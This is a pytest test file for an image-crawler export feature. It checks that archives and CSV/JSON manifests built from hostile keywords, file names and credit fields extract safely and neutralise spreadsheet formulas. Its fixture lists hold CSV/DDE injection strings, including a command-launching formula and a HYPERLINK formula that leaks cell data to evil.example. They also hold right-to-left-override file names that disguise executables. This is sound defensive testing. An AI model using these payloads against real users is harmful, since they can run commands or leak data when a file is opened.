"""Hostile keywords, file names, titles and creators: every archive of every layout extracts cleanly with GNU
tar, unzip and Python, nothing lands outside the target folder, and every manifest is safe to open."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import unicodedata
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from sqlalchemy.orm import Session

from pixcrawler.models import Image, JobStatus
from tests import factories
from tests.export.archive import extract_everywhere, members
from tests.export.conftest import deliver, export_job, fetch, jsonl, manifest_rows, reload

pytestmark = pytest.mark.usefixtures("env")

KEYWORDS = [
    "manifest.csv",
    "MANIFEST.CSV",
    "ATTRIBUTION.txt",
    " Metadata.JSONL. ",
    "Croissant.JSON",
    "\u202eexe.jpg",
    "\u2066cat\u2069\u200f",
    "CON .txt",
    "COM\u00b9",
    "COM\u00b2",
    "COM\u00b3",
    "LPT\u00b9",
    "CONIN$",
    "conout$.",
    "con.tar.gz",
    "nul. . ",
    "=cmd|' /C calc'!A0",
    "-cat",
    "cat",
]
FILE_NAMES = ["\u202egpj.exe", "CON .jpg", "COM\u00b9.jpg", "x\u200f\u061c.jpg", "manifest.csv", "\u0065\u0301.jpg"]
TEXTS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed",
    "\rCarriage",
    "A cat\nCreator: Forged Person\n  License: cc0 (https://evil.example/)",
    "Kitten \u202egnp.exe\u202c at dusk\u2028Source: https://evil.example/",
    'Plain title, with "quotes" and; separators',
]
ROOT_FILES = {"manifest.csv", "attribution.txt", "metadata.jsonl", "croissant.json"}
DEVICES = {"con", "prn", "aux", "nul", "conin$", "conout$"} | {f"{p}{n}" for p in ("com", "lpt") for n in range(10)}
FORMULA_LEADING = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value: str) -> str:
    """What a spreadsheet-safe CSV cell holds for `value` (OWASP: a quote before a formula-leading cell)."""
    return f"'{value}" if value.startswith(FORMULA_LEADING) else value


def one_line(text: str | None) -> str:
    """A credit field as ATTRIBUTION.txt must show it: invisible format characters gone, whitespace runs one space."""
    return " ".join("".join(char for char in text or "" if unicodedata.category(char) != "Cf").split())


def hostile_images(session: Session, aws: dict[str, Any]) -> tuple[Any, list[Image]]:
    job = factories.crawl_job(session, keywords=KEYWORDS)
    images = [
        factories.stored_image(
            session,
            aws["s3"],
            aws["bucket"],
            job,
            seed=n,
            keyword=keyword,
            filename=FILE_NAMES[n % len(FILE_NAMES)],
            title=TEXTS[n % len(TEXTS)],
            creator=TEXTS[(n + 3) % len(TEXTS)],
        )
        for n, keyword in enumerate([*KEYWORDS, "manifest.csv", "cat"])
    ]
    session.commit()
    return job, images


def assert_safe_segment(segment: str) -> None:
    """Extracts on Windows and macOS too, and reads as it is: no device name, no invisible or control
    characters, no trailing dot or space, composed (NFC) form."""
    assert segment == unicodedata.normalize("NFC", segment), segment
    assert not any(unicodedata.category(char) in ("Cc", "Cf") for char in segment), ascii(segment)
    assert not segment.endswith((".", " ")), segment
    stem = unicodedata.normalize("NFKC", segment).split(".")[0].rstrip(" ").casefold()
    assert stem not in DEVICES, segment


@pytest.mark.parametrize("fmt", ["zip", "tar", "tar.gz"])
@pytest.mark.parametrize("layout", ["flat", "by_keyword", "hf_imagefolder"])
def test_hostile_archives_extract_everywhere_with_safe_manifests(
    layout: str, fmt: str, session: Session, env: dict[str, Any], export_app: ModuleType, tmp_path: Path
) -> None:
    job, images = hostile_images(session, env)
    export = export_job(session, job, fmt, name="CON", layout=layout)

    deliver(export_app, export.id)

    export = reload(session, export)
    assert export.status is JobStatus.COMPLETED, export.error_message
    data = fetch(env, export.storage_key or "")
    extras = {"manifest.csv", "ATTRIBUTION.txt", "croissant.json"} | (
        {"metadata.jsonl"} if layout == "hf_imagefolder" else set()
    )
    by_digest = {image.sha256: image for image in images}
    for tool, files in extract_everywhere(data, fmt, tmp_path).items():
        assert files == members(data, fmt), tool
        digests = {path: hashlib.sha256(body).hexdigest() for path, body in files.items()}
        image_paths = {path: by_digest[digest] for path, digest in digests.items() if digest in by_digest}
        assert set(files) - set(image_paths) == extras, tool
        assert sorted(image.id for image in image_paths.values()) == sorted(image.id for image in images), tool
        for path in image_paths:
            for segment in path.split("/"):
                assert_safe_segment(segment)
            assert path.count("/") == (0 if layout == "flat" else 1), path
        if layout != "flat":
            folders = {path.split("/")[0]: image.keyword for path, image in image_paths.items()}
            assert len(folders) == len(set(KEYWORDS)), "one folder per keyword, none merged"
            assert not {folder.casefold() for folder in folders} & ROOT_FILES
            assert (folders["MANIFEST.CSV-2"], folders["manifest.csv-3"]) == ("MANIFEST.CSV", "manifest.csv")
            assert (folders["exe.jpg"], folders["_COM\u00b9"]) == ("\u202eexe.jpg", "COM\u00b9")

        rows = manifest_rows(files["manifest.csv"].decode())
        assert {row["file_name"] for row in rows} == set(image_paths), tool
        for row in rows:
            image = image_paths[row["file_name"]]
            assert row["sha256"] == hashlib.sha256(files[row["file_name"]]).hexdigest()
            assert row["label"] == neutralised(image.keyword or "")
            assert (row["title"], row["creator"]) == (neutralised(image.title or ""), neutralised(image.creator or ""))
        if layout == "hf_imagefolder":
            for meta in jsonl(files["metadata.jsonl"].decode()):
                image = image_paths[meta["file_name"]]
                assert (meta["label"], meta["title"], meta["creator"]) == (image.keyword, image.title, image.creator)

        croissant = json.loads(files["croissant.json"])
        creators = {image.creator: None for image in sorted(image_paths.values(), key=lambda image: image.id)}
        assert [person["name"] for person in croissant["creator"]] == list(creators), "exact, each once"
        assert set(croissant["keywords"]) == set(KEYWORDS)

        attribution = files["ATTRIBUTION.txt"].decode()
        assert not any(unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp") for char in attribution.replace("\n", ""))
        blocks = [block.split("\n") for block in attribution.rstrip("\n").split("\n\n")[1:]]
        assert sorted(block[0] for block in blocks) == sorted(image_paths), "one credit block per image"
        for block in blocks:
            assert [line.split(": ", 1)[0] for line in block[1:]] == ["  Title", "  Creator", "  License", "  Source"]
            image = image_paths[block[0]]
            assert block[1:3] == [f"  Title: {one_line(image.title)}", f"  Creator: {one_line(image.creator)}"]
    assert export.storage_key is not None and export.storage_key.endswith(f"/_con.{fmt}"), "no device name"


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl"])
def test_manifest_exports_neutralise_csv_formulas_and_keep_json_exact(
    fmt: str, session: Session, env: dict[str, Any], export_app: ModuleType
) -> None:
    job, images = hostile_images(session, env)
    export = export_job(session, job, fmt, layout="by_keyword")

    deliver(export_app, export.id)

    text = fetch(env, reload(session, export).storage_key or "").decode()
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
    else:
        rows = json.loads(text) if fmt == "json" else jsonl(text)
    by_id = {image.id: image for image in images}
    assert sorted(int(row["image_id"]) for row in rows) == sorted(by_id)
    for row in rows:
        image = by_id[int(row["image_id"])]
        expected = [image.keyword or "", image.title or "", image.creator or ""]
        if fmt == "csv":
            expected = [neutralised(value) for value in expected]
            assert not any(cell.startswith(FORMULA_LEADING) for cell in row.values()), row
        assert [row["label"], row["title"], row["creator"]] == expected
